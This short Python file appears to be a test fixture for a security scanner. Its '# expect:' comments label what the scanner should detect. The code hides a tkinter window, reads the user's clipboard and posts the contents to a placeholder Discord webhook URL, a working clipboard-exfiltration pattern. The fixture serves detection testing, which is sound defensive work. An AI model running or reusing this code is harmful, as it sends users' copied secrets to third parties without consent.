# ruff: noqa
# fmt: off
"""tkinter's clipboard read by a hidden window, sent to a Discord webhook."""
import tkinter

import requests

root = tkinter.Tk()
root.withdraw()
data = root.clipboard_get()  # expect: clipboard-access
requests.post("https://discord.com/api/webhooks/1/abc", json={"content": data})  # expect: exfiltrate-sensitive-data|suspicious-url
